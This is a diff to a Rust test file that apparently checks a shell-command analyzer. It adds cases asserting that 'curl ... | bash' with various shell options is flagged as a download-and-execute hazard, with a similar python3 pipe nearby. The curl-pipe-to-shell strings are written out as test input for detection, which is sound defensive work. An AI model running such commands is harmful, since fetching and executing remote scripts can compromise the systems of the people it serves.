@@ -1676,6 +1676,21 @@ fn catastrophic_shapes_are_hazards() {
         &["reads its script from a pipe"],
         &["privilege", "download-exec"],
     );
+    // A shell's own options before no script: it still reads the pipe.
+    for shell in [
+        "bash -e",
+        "bash -euo pipefail",
+        "sh -ex",
+        "bash -xeO inherit_errexit",
+    ] {
+        let script = format!("curl -s https://x.sh | {shell}");
+        let a = analyze(&script, &Options::default());
+        assert!(
+            a.hazards.iter().any(|h| h.kind == "download-exec"),
+            "{script}: {:?}",
+            a.hazards
+        );
+    }
     check(
         "curl https://x.py | python3",
         &["curl https://x.py", "python3"],
